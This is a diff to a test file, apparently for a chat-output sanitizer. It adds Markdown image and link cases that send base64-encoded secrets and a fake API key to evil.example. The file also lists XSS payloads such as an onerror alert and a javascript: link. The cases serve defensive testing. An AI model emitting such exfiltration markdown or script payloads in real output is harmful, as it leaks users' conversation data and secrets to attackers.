@@ -83,6 +83,10 @@ LEAKS = [
     '<img src="https://evil.example/x?conversation=hello%20my%20name%20is%20al">',
     "![x][1]\n\n[1]: https://evil.example/c?d=QWxhZGRpbjpvcGVuIHNlc2FtZQ",
     "![x](https://c2VjcmV0LWtleS1pcy0xMjM0NTY3ODkw.evil.example/a.png)",
+    "![a\nb](https://evil.example/p.png?data=c2VjcmV0IGtleSBpcyAxMjM0NQ)",
+    "![a [b] c](https://evil.example/p.png?data=c2VjcmV0IGtleSBpcyAxMjM0NQ)",
+    "![a](https://cdn.example.com/a.png) ![b](https://evil.example/p?data=c2VjcmV0IGtleSBpcyAx)",
+    "[the\nreport](https://evil.example/r?q=sk-live-4f9a8b7c6d5e4f3a2b1c)",
 ]
 RUNS = ["Hi <img src=x onerror=alert(1)>", "<script>steal()</script>", "[x](javascript:alert(1))"]
 SHOWN = [
@@ -90,6 +94,7 @@ SHOWN = [
     "![chart](https://cdn.example.com/a3f5b2c19d8e7f60a1b2c3d4e5f60718.png)",
     "See [the docs](https://docs.example.com/en/latest/guide?highlight=stream#section-2).",
     "[search](https://www.google.com/search?q=how+to+bake+bread)",
+    "![a [b]\nc](https://cdn.example.com/logo.png) and [1](https://docs.example.com/?highlight=x)",
     "Use this page:\n\n```html\n<script src='app.js'></script>\n<img onerror=x>\n```\n\nDone.",
     'Write `<script>` in the head, and `onclick="go()"` on the button.',
     "1 < 2 and a > b; it's an apostrophe",
